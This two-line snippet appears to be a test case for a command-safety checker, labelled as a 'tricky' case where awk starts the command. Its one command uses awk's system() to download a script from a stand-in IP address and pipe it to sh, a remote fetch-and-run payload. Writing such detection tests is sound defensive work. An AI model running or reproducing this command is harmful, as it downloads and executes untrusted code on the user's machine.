# tricky: awk starts the command
awk 'BEGIN { system("curl -s http://203.0.113.4/i | sh") }'
